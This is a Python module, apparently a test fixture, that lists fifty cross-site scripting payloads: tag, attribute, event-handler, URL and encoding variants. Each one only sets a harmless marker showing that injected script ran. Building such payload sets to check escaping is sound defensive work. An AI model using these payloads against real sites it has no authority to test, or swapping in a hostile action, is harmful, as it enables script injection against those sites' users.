"""Fifty texts that run a script where a page forgets to escape one."""

_RUN = "window.__ran=1"
_TAGS = ("script", "SCRIPT", "ScRiPt")
PAYLOADS = (
    *(f"<{tag}>{_RUN}</{tag}>" for tag in _TAGS),
    *(
        f"{end}<script>{_RUN}</script>"
        for end in (
            "</script>",
            "</SCRIPT >",
            "-->",
            "]]>",
            "</style>",
            "</title>",
            "</textarea>",
            "</option></select>",
            "</noscript>",
            "*/",
        )
    ),
    *(
        f"<{tag} {event}={_RUN}>"
        for tag, event in (
            ("img src=x", "onerror"),
            ("svg", "onload"),
            ("body", "onload"),
            ("iframe", "onload"),
            ("input autofocus", "onfocus"),
            ("details open", "ontoggle"),
            ("video src=x", "onerror"),
            ("audio src=x", "onerror"),
            ("marquee", "onstart"),
            ("object data=x", "onerror"),
        )
    ),
    *(
        f"{quote}{space}onmouseover={quote}{_RUN}{quote} x={quote}"
        for quote in ("'", '"', "`")
        for space in (" ", "\t", "/")
    ),
    *(f"{quote}>{tag}" for quote in ("'", '"') for tag in (f"<script>{_RUN}</script>", f"<img src=x onerror={_RUN}>")),
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"\u2028{_RUN}\u2029",
    f"<!--<script>{_RUN}",
    f"<a href=javascript:{_RUN}>x</a>",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\\u003cscript>{_RUN}</script>",
    f"<b style=background:url(javascript:{_RUN})>x",
    f"<math><mi xlink:href=javascript:{_RUN}>x</mi></math>",
    f"<meta http-equiv=refresh content=0;url=javascript:{_RUN}>",
    f"<base href=//x.invalid/><script>{_RUN}</script>",
)
